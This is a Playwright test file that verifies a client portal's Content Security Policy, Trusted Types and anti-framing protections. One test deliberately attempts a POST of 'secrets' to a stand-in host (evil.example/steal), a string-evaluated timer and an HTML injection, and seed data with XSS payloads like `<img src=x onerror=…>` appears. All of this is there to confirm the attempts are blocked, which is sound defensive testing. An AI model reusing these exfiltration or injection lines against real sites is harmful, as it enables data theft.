import type { Page } from '@playwright/test'
import { cspReports, expect, portalOrigin, serveLogos, settled, signIn, test } from './support'

const nav = (page: Page, name: string) =>
  page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name, exact: true })

test('every page of the production build runs under the CSP without a single violation', async ({ page, violations, policyMessages }) => {
  const reportsBefore = cspReports().length
  await serveLogos(page)
  // An `alert(1)` from the hostile seed text would mean markup from the API ran as script.
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })

  // The client with long, right-to-left and hostile text (`<img src=x onerror=…>`, `javascript:` links).
  await signIn(page, 'large')
  await settled(page)
  const logo = page.getByRole('banner').locator('img')
  await expect
    .poll(() => logo.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0), { message: 'the agency logo loads (img-src allows its host)' })
    .toBe(true)

  await nav(page, 'Projects').click()
  await expect(page.getByRole('heading', { level: 1, name: 'Projects' })).toBeVisible()
  await settled(page)

  await page.getByRole('link', { name: /<img src=x/ }).first().click()
  await expect(page.getByRole('heading', { level: 1, name: /<img src=x/ })).toBeVisible()
  await settled(page)
  expect(await page.locator('img[src="x"]').count()).toBe(0)

  await nav(page, 'Invoices').click()
  await expect(page.getByRole('heading', { level: 1, name: 'Invoices' })).toBeVisible()
  await settled(page)

  await page.getByRole('table').first().getByRole('link').first().click()
  await expect(page.getByRole('heading', { level: 1, name: /^Invoice / })).toBeVisible()
  await settled(page)
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download PDF' }).click()])
  expect(download.suggestedFilename()).toMatch(/\.pdf$/)

  await nav(page, 'Account').click()
  await expect(page.getByRole('heading', { level: 1, name: 'Account' })).toBeVisible()
  await settled(page)

  await page.goto('/no/such/page')
  await expect(page.getByRole('heading', { level: 1, name: 'Page not found' })).toBeVisible()

  await nav(page, 'Overview').click()
  await expect(page.getByRole('heading', { level: 1, name: 'Overview' })).toBeVisible()
  await settled(page)

  await page.getByRole('button', { name: 'Sign out' }).click()
  await expect(page.getByRole('heading', { name: 'Sign in to your client portal' })).toBeVisible()
  await expect(page.getByText('You have signed out.')).toBeVisible()

  expect(violations).toEqual([])
  expect(policyMessages).toEqual([])
  expect(dialogs).toEqual([])
  expect(cspReports().slice(reportsBefore), 'reports nginx received').toEqual([])
})

test('the CSP is enforced from the header, and both the page and the report endpoint see what it blocks', async ({ page, violations }) => {
  const reportsBefore = cspReports().length
  await page.goto('/sign-in')
  await expect(page.getByRole('heading', { name: 'Sign in to your client portal' })).toBeVisible()
  const outcome = await page.evaluate(async () => {
    const attempt = async (action: () => unknown) => {
      try {
        await action()
        return 'allowed'
      } catch (error) {
        return (error as Error).name
      }
    }
    const image = document.createElement('img')
    image.src = 'https://evil.example/pixel.png'
    document.body.append(image)
    const request = new XMLHttpRequest()
    const sent = new Promise<string>((settle) => {
      request.onload = () => settle('allowed')
      request.onerror = () => settle('blocked')
    })
    request.open('POST', 'https://evil.example/steal')
    request.send('secrets')
    return {
      // A string run as code, and markup written into the page: Trusted Types refuses both.
      // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the very thing the CSP must refuse
      stringTimer: await attempt(() => setTimeout('document.title = "pwned"')),
      html: await attempt(() => document.body.insertAdjacentHTML('beforeend', '<b>markup</b>')),
      request: await sent,
    }
  })
  expect(outcome).toEqual({ stringTimer: 'TypeError', html: 'TypeError', request: 'blocked' })
  await expect
    .poll(() => [...new Set(violations.map((v) => v.directive))].sort())
    .toEqual(['connect-src', 'img-src', 'require-trusted-types-for'])
  // Enforced by the header's policy, not only by the <meta> copy: only the header has frame-ancestors.
  expect(violations.some((v) => v.directive === 'img-src' && v.policy.includes("frame-ancestors 'none'") && v.disposition === 'enforce')).toBe(
    true,
  )
  expect(await page.title()).not.toBe('pwned')
  // The browser posted its reports to the policy's report-uri, and nginx took them.
  await expect.poll(() => cspReports().slice(reportsBefore).length).toBeGreaterThanOrEqual(3)
  expect(cspReports().slice(reportsBefore).every((line) => line.includes('"POST /csp-report HTTP/1.1" 204'))).toBe(true)
})

test('no other site can frame the portal', async ({ page }) => {
  await page.goto('about:blank')
  await page.setContent(`<iframe src="${portalOrigin()}/sign-in" title="portal"></iframe>`)
  // setContent waits for the frame's load too, blocked or not.
  const frame = page.frameLocator('iframe')
  await expect(frame.getByRole('heading', { name: 'Sign in to your client portal' })).toHaveCount(0)
  const child = page.frames().find((f) => f !== page.mainFrame())
  expect(child?.url()).not.toContain(portalOrigin())
})
